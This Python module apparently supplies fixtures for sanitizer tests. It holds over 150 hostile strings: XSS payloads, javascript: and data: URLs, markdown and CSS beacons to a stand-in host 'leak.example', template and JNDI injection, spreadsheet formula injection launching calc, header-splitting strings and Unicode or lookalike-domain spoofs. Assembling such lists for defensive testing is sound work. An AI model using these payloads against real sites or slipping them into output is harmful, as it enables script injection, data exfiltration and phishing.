"""Texts that try to run, to call out, to break out of their field or to look like something else.

All would set `window.ran` or ask something of `HOST`, which no test lets through.
"""

from collections.abc import Iterator
from dataclasses import dataclass

HOST = "leak.example"
_RUN = "window.ran=1"


@dataclass(frozen=True, slots=True)
class Payload:
    """One hostile text and what kind of harm it tries."""

    group: str
    text: str


_GROUPS: dict[str, tuple[str, ...]] = {
    "script": (
        f"<script>{_RUN}</script>",
        f"<SCRIPT>{_RUN}</SCRIPT>",
        f"<script >{_RUN}</script >",
        f"<script/x>{_RUN}</script>",
        f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
        f"<script src=//{HOST}/a.js></script>",
        f"<script src=data:text/javascript,{_RUN}></script>",
        f"<script type=module>import 'https://{HOST}/a.js'</script>",
        f"</script><script>{_RUN}</script>",
        f'"><script>{_RUN}</script>',
        f"'><script>{_RUN}</script>",
        f"</textarea><script>{_RUN}</script>",
        f"</title><script>{_RUN}</script>",
        f"</style><script>{_RUN}</script>",
        f"--><script>{_RUN}</script>",
        f"]]><script>{_RUN}</script>",
        f"<noscript><p title='</noscript><script>{_RUN}</script>'>",
        f"<template><script>{_RUN}</script></template>",
        f"&lt;script&gt;{_RUN}&lt;/script&gt;",
        f"&#60;script&#62;{_RUN}&#60;/script&#62;",
        f"%3Cscript%3E{_RUN}%3C/script%3E",
        f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
        f"＜script＞{_RUN}＜/script＞",  # full width: NFKC makes them the real thing
        f"<scrıpt>{_RUN}</scrıpt>",  # a dotless i, which upper case makes a plain one
        f"<<script>{_RUN}//<</script>",
    ),
    "handler": (
        f"<img src=x onerror={_RUN}>",
        f"<img src=x onerror='{_RUN}'>",
        f"<IMG SRC=x OnErRoR={_RUN}>",
        f"<img/src=x/onerror={_RUN}>",
        f"<body onload={_RUN}>",
        f"<input autofocus onfocus={_RUN}>",
        f"<details open ontoggle={_RUN}><summary>x</summary></details>",
        f"<video><source onerror={_RUN}></video>",
        f"<audio src=x onerror={_RUN}>",
        f"<marquee onstart={_RUN}>x</marquee>",
        f"<div onpointerover={_RUN} style=position:fixed;inset:0>x</div>",
        f"<select autofocus onfocus={_RUN}>",
        f"<style onload={_RUN}></style>",
        f"<p style=animation-name:x onanimationstart={_RUN}>x</p>",
        f'" onmouseover="{_RUN}" x="',
        f"' onfocus='{_RUN}' autofocus tabindex=0 x='",
        f"`onclick=`{_RUN}",
    ),
    "address": (
        f"javascript:{_RUN}",
        f"JaVaScRiPt:{_RUN}",
        f"java\tscript:{_RUN}",
        f" javascript:{_RUN}",
        f"javascript://{HOST}/%0a{_RUN}",
        f"vbscript:{_RUN}",
        f"data:text/html,<script>{_RUN}</script>",
        f"data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=//{HOST}",
        f"blob:https://{HOST}/x",
        "file:///etc/passwd",
        f"https://gov.ma@{HOST}/",
        f"https://user:secret@{HOST}/",
        f"<a href=javascript:{_RUN}>click</a>",
        f"<a href='jav&#x09;ascript:{_RUN}'>click</a>",
        f"<a href=//{HOST} ping=//{HOST}/p>click</a>",
        f"<form action=//{HOST}><button>click</button></form>",
        f"<button formaction=javascript:{_RUN} form=form>click</button>",
    ),
    "beacon": (
        f"<img src=https://{HOST}/i.png>",
        f"<img srcset=//{HOST}/i.png>",
        f"<picture><source srcset=//{HOST}/i.png><img></picture>",
        f"<link rel=stylesheet href=//{HOST}/s.css>",
        f"<link rel=preload as=image href=//{HOST}/i.png>",
        f"<link rel=prefetch href=//{HOST}/p>",
        f"<link rel=dns-prefetch href=//{HOST}>",
        f"<link rel=preconnect href=//{HOST}>",
        f"<link rel=icon href=//{HOST}/i.png>",
        f"<iframe src=//{HOST}></iframe>",
        f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
        f"<object data=//{HOST}/o></object>",
        f"<embed src=//{HOST}/e>",
        f"<video poster=//{HOST}/i.png></video>",
        f"<audio src=//{HOST}/a autoplay></audio>",
        f"<track src=//{HOST}/t>",
        f"<base href=//{HOST}/>",
        f"<meta http-equiv=refresh content='0;url=//{HOST}'>",
        f"<meta http-equiv=Content-Security-Policy content='script-src * {HOST}'>",
        f"<portal src=//{HOST}></portal>",
    ),
    "style": (
        f"<style>*{{background:url(//{HOST}/b)}}</style>",
        f"<style>@import '//{HOST}/s.css';</style>",
        f"<style>@font-face{{font-family:x;src:url(//{HOST}/f)}}*{{font-family:x}}</style>",
        f"<p style=background:url(//{HOST}/b)>x</p>",
        f"<p style='background-image:image-set(\"//{HOST}/b\" 1x)'>x</p>",
        f"<p style='width:expression({_RUN})'>x</p>",
        f"}}*{{background:url(//{HOST}/b)}}",
        f"<style>input[value^=a]{{background:url(//{HOST}/a)}}</style>",
        "<p style=position:fixed;inset:0;background:red>x</p>",
    ),
    "drawing": (
        f"<svg onload={_RUN}></svg>",
        f"<svg><script>{_RUN}</script></svg>",
        f"<svg><image href=//{HOST}/i.png /></svg>",
        f"<svg><use href=//{HOST}/u.svg#x /></svg>",
        f"<svg><a xlink:href=javascript:{_RUN}><text>x</text></a></svg>",
        f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
        f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
        f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
        f"<math href=javascript:{_RUN}>x</math>",
    ),
    "markdown": (
        f"![i](https://{HOST}/i.png)",
        f"![i][r]\n\n[r]: https://{HOST}/i.png",
        f"[click](javascript:{_RUN})",
        f'[click](https://{HOST}/ "{_RUN}")',
        f"[a](<javascript:{_RUN}>)",
        f"<https://{HOST}/auto>",
        f"https://{HOST}/bare",
        f"www.{HOST}/bare",
        f'![x](x"onerror="{_RUN})',
        f"[x](data:text/html,<script>{_RUN}</script>)",
        f"```html\n<script>{_RUN}</script>\n```",
        f"[1]: https://{HOST}/ [1]",
        f"|a|\n|-|\n|![i](//{HOST}/i.png)|",
    ),
    "template": (
        "{{constructor.constructor('window.ran=1')()}}",
        "${window.ran=1}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{% import os %}{{os}}",
        "{{config.items()}}",
        "${jndi:ldap://leak.example/a}",
        "__proto__",
        '{"__proto__": {"ran": 1}}',
        "constructor",
    ),
    "cell": (
        f'=HYPERLINK("https://{HOST}","x")',
        f'=IMPORTXML("https://{HOST}","//a")',
        "=cmd|'/c calc'!A0",
        f'+WEBSERVICE("https://{HOST}")',
        "-2+3+cmd|'/c calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        '"=1+1',
        'x",=1+1',
        "x\n=1+1",
        "＝1+1",
        ";=1+1",
    ),
    "order": (
        "\u202egpj.exe",
        "\u202dabc\u202c",
        f"\u2066{HOST}\u2069",
        "prix \u202e0001\u202c dirhams",
        "\u200bscript\u200b",
        "\u2067الف\u2069 \u202eabc",
        "\ufeffstart",
        "\U000e0041\U000e0042 tags",
    ),
    "header": (
        "x\r\nSet-Cookie: stolen=1",
        "x\nLocation: https://leak.example",
        "x\r\n\r\n<script>window.ran=1</script>",
        "x%0d%0aSet-Cookie:%20stolen=1",
        "x\u560d\u560aSet-Cookie: stolen=1",  # cut to single bytes these are CR and LF
        "x\u2028Set-Cookie: stolen=1",
        "x\x00Set-Cookie: stolen=1",
        "data: stolen\n\nevent: answer\ndata: {}\n\n",
        "\nevent: error\ndata: {}\n\n",
        ": comment\rid: 1\rdata: x\r\r",
    ),
    "look": (
        f"https://www.dоuane.gov.ma.{HOST}/",
        "https://www.douanе.gov.ma/",  # Cyrillic letters
        "https://ԁouane.gov.ma/",
        "https://www.douane.gov.ma\u2215login.example/",
        f"https://www.douane.gov.ma%2e{HOST}/",
        "mailto:a@b.ma?bcc=thief@leak.example&body=x",
        "tel:0900;phone-context=leak.example",
        "w" * 900,
        "ع" * 900,
        "👩‍👩‍👧‍👦" * 80,
        "a\u0300" * 400,  # letters under a tower of accents
        "z" + "\u0335\u0322\u0489" * 150,
    ),
}

PAYLOADS = tuple(Payload(group, text) for group, texts in _GROUPS.items() for text in texts)
"""Every payload, by group; at least 150."""

GROUPS = tuple(_GROUPS)


def of_group(group: str) -> tuple[str, ...]:
    """The texts of one group."""
    return _GROUPS[group]


def named() -> Iterator[tuple[str, str]]:
    """Each payload with a short name for a test report."""
    for group, texts in _GROUPS.items():
        for number, text in enumerate(texts, 1):
            yield f"{group}-{number}", text
